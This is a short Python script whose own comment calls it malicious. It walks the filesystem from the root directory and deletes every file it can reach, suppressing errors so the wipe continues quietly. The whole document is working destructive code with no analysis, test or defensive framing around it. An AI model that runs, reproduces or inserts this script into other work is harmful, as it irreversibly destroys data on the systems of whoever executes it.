# Malicious: walks the filesystem from / and unlinks every file it can; a slow but total wipe.
import os

for root, _dirs, files in os.walk("/", topdown=False):
    for name in files:
        try:
            os.remove(os.path.join(root, name))
        except OSError:
            pass
